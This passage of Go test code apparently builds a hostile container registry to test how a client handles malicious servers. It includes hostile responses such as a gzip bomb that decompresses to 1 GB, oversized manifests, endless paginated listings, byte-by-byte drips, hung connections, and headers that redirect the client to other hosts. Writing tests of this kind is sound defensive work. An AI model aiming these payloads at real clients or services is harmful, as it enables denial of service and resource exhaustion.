					w.Header().Set("Link", "<"+to+`>; rel="next"`)
					w.Header().Set("Content-Type", "application/json")
					_, _ = io.WriteString(w, `{"tags":["a"]}`)
				})
			}},
			Attack{"realm-" + where, AtSource, false, "the realm of a challenge is " + shown, func(h *hostile) {
				h.challenge(h.token(`{"token":"x"}`), func(w http.ResponseWriter) {
					w.Header().Set("WWW-Authenticate", `Bearer realm="`+to+`"`)
				})
			}},
			Attack{"location-" + where, AtDestination, false, "an upload's Location is " + shown, func(h *hostile) {
				h.serve(http.MethodPost, openPattern, func(w http.ResponseWriter, _ *http.Request) { location(w, http.StatusAccepted) })
			}},
		)
	}
	return all
}

// Referrers reports whether the attack is against a copy with referrers.
func (a Attack) Referrers() bool { return strings.HasPrefix(a.Name, "referrers-") }

// hostile is a registry in an attack.
type hostile struct{ s *Server }

// serve answers requests in place of the registry.
func (h *hostile) serve(method, pattern string, handler http.HandlerFunc) {
	matches := Match(method, pattern)
	h.s.Fail(func(r *http.Request) *Fault {
		if !matches(r) {
			return nil
		}
		return &Fault{Serve: handler}
	})
}

// blob answers requests for the large layer of the innocent image.
func (h *hostile) blob(handler http.HandlerFunc) {
	h.serve(http.MethodGet, innocent().Layers[0].Digest.Encoded(), handler)
}

// answer answers with raw.
func (h *hostile) answer(mediaType string, raw []byte) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", mediaType)
		w.Header().Set("Content-Length", strconv.Itoa(len(raw)))
		_, _ = w.Write(raw)
	}
}

// manifest serves the beginning, as many repetitions as fit in 4 MiB, and the end.
func (h *hostile) manifest(beginning, repeated, end string) {
	n := (content.MaxManifestSize - len(beginning) - len(end)) / len(repeated)
	raw := beginning + strings.Repeat(repeated, n) + end
	mediaType := ocispec.MediaTypeImageManifest
	if strings.Contains(beginning, ocispec.MediaTypeImageIndex) {
		mediaType = ocispec.MediaTypeImageIndex
	}
	h.s.ReplaceManifest(victim, "1", mediaType, []byte(raw))
}

// manifestOf returns the n-th of several manifests. members are those of its layer, below those of the manifest.
func (h *hostile) manifestOf(n int, members, below string) []byte {
	f := innocent()
	blob := func(d content.Descriptor, members string) string {
		return fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":%d%s}`, d.MediaType, d.Digest, d.Size, members)
	}
	if members != "" {
		members = "," + members
	}
	if below != "" {
		below = "," + below
	}
	return fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"config":%s,"layers":[%s],"artifactType":"application/x.%d"%s}`,
		ocispec.MediaTypeImageManifest, blob(f.Config, ""), blob(f.Layers[1], members), n, below)
}

// annotations returns n empty annotations, each after a comma.
func annotations(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"%x":""`, i)
	}
	return b.String()
}

// index serves an index of n manifests, which are made when they are requested.
func (h *hostile) index(n int, raw func(n int) []byte) {
	var children []*Fixture
	for _, d := range h.manifests(n, raw) {
		children = append(children, &Fixture{Descriptor: d})
	}
	h.s.ReplaceManifest(victim, "1", ocispec.MediaTypeImageIndex, Index(IndexSpec{}, children...).Raw)
}

// referrers serves n referrers of the innocent image, which are made when they are requested. Each has an annotation of
// size bytes, of which the list has the first ones.
func (h *hostile) referrers(n, listed, size int) {
	subject := innocent().Descriptor
	text := strings.Repeat("x", size)
	all := h.manifests(n, func(n int) []byte {
		return h.manifestOf(n, "", fmt.Sprintf(`"subject":{"mediaType":%q,"digest":%q,"size":%d},"annotations":{"x":"%s"}`,
			subject.MediaType, subject.Digest, subject.Size, text))
	})
	for i := range all {
		all[i].Annotations = map[string]string{"x": text[:listed]}
	}
	list := encode(ocispec.Index{MediaType: ocispec.MediaTypeImageIndex, Manifests: all})
	h.serve(http.MethodGet, "/referrers/"+subject.Digest.String(), h.answer(ocispec.MediaTypeImageIndex, list))
}

// manifests serves n manifests by their digests.
func (h *hostile) manifests(n int, raw func(n int) []byte) (all []content.Descriptor) {
	numbers := map[string]int{}
	for i := range n {
		d := content.NewDescriptor(ocispec.MediaTypeImageManifest, raw(i))
		numbers[d.Digest.String()] = i
		all = append(all, d)
	}
	h.s.Fail(func(r *http.Request) *Fault {
		i, known := numbers[r.URL.Path[strings.LastIndex(r.URL.Path, "/")+1:]]
		if r.Method != http.MethodGet || !known {
			return nil
		}
		return &Fault{Serve: func(w http.ResponseWriter, r *http.Request) { h.answer(ocispec.MediaTypeImageManifest, raw(i))(w, r) }}
	})
	return all
}

// layer serves the innocent image with another descriptor of its first layer.
func (h *hostile) layer(change func(*content.Descriptor)) {
	f := innocent()
	change(&f.Layers[0])
	raw := encode(ocispec.Manifest{MediaType: ocispec.MediaTypeImageManifest, Config: f.Config, Layers: f.Layers})
	h.s.ReplaceManifest(victim, "1", ocispec.MediaTypeImageManifest, raw)
}

// flood is an answer without a length: the beginning, and then the repeated text up to size bytes.
func (h *hostile) flood(mediaType, beginning, repeated string, size int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", mediaType)
		if r.Method != http.MethodHead {
			h.write(w, beginning, repeated, size)
		}
	}
}

func (h *hostile) write(w io.Writer, beginning, repeated string, size int) {
	if _, err := io.WriteString(w, beginning); err != nil {
		return
	}
	piece := strings.Repeat(repeated, max(1, 32<<10/len(repeated)))
	repeat(w, piece, (size-len(beginning))/len(piece))
}

// bomb is an answer that is a thousand times as large when it is decompressed.
func (h *hostile) bomb(mediaType, beginning string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", mediaType)
		w.Header().Set("Content-Encoding", "gzip")
		if r.Method != http.MethodHead {
			_, _ = w.Write(compressed(beginning))
		}
	}
}

// compressed is 1 GB of spaces after a beginning. A gzip stream may have several members.
func compressed(beginning string) []byte {
	var all, member bytes.Buffer
	pack := func(b *bytes.Buffer, text []byte) {
		z := gzip.NewWriter(b)
		_, _ = z.Write(text)
		_ = z.Close()
	}
	pack(&all, []byte(beginning))
	pack(&member, bytes.Repeat([]byte(" "), 1<<20))
	for range gigabyte >> 20 {
		all.Write(member.Bytes())
	}
	return all.Bytes()
}

// raw lets answer write the bytes of the connection, and closes it.
func (h *hostile) raw(answer func(c io.Writer)) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		c, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			panic(err) // the server speaks HTTP/1.1
		}
		defer c.Close()
		answer(c)
	}
}

// challenge requires tokens from a server that answers with the handler. add adds the challenge; nil adds the usual one.
func (h *hostile) challenge(token http.HandlerFunc, add func(w http.ResponseWriter)) {
	if add == nil {
		add = func(w http.ResponseWriter) {
			w.Header().Set("WWW-Authenticate", `Bearer realm="`+h.s.URL()+`/token",service="x"`)
		}
	}
	h.serve("", "^/token", token)
	h.serve("", "^/v2/", func(w http.ResponseWriter, _ *http.Request) {
		add(w)
		refuse(w, http.StatusUnauthorized, "UNAUTHORIZED", "authentication required")
	})
}

func (h *hostile) token(text string) http.HandlerFunc {
	return h.answer("application/json", []byte(text))
}

// pages serves the same page of a listing again and again.
func (h *hostile) pages(page string) {
	h.links(page, func(n int) string { return fmt.Sprintf("?page=%d", n) })
}

// links serves the same page of a listing again and again. next returns the Link to page n.
func (h *hostile) links(page string, next func(n int) string) {
	h.serve(http.MethodGet, tagsPattern, func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.URL.Query().Get("page"))
		w.Header().Set("Link", fmt.Sprintf(`<%s>; rel="next"`, next(n+1)))
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, page)
	})
}

// drip writes a byte after each pause, until the client closes the connection.
func (h *hostile) drip(w io.Writer, pause time.Duration) {
	for h.pause(pause) {
		if _, err := io.WriteString(w, "x"); err != nil {
			return
		}
	}
}

// pause waits, and reports whether the registry is still open.
func (h *hostile) pause(d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-h.s.closing:
		return false
	}
}

// hang does not answer until the client closes the connection.
func (h *hostile) hang(r *http.Request) {
	select {
	case <-r.Context().Done():
	case <-h.s.closing:
	}
}

// repeat writes a text up to n times.
func repeat(w io.Writer, text string, n int) {
	for range n {
		if _, err := io.WriteString(w, text); err != nil {
			return
		}
	}
}

// distinct returns n names of the same length.
func distinct(n, length int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprintf("%0*d", length, i)
	}
	return names
}

// flushing sends each Write at once.
type flushing struct{ http.ResponseWriter }

func (f flushing) Write(p []byte) (int, error) {
	n, err := f.ResponseWriter.Write(p)
	if err == nil {
		err = http.NewResponseController(f.ResponseWriter).Flush()
	}
	return n, err
}
